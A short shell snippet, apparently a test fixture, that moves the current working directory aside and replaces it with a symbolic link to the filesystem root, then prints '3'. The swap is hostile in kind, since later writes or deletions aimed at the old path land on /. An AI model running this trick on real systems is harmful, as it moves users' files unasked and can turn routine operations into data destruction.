here=$PWD
mv "$here" "$here.old" 2>/dev/null || mv "$here" /tmp/old
ln -s / "$here"
echo 3
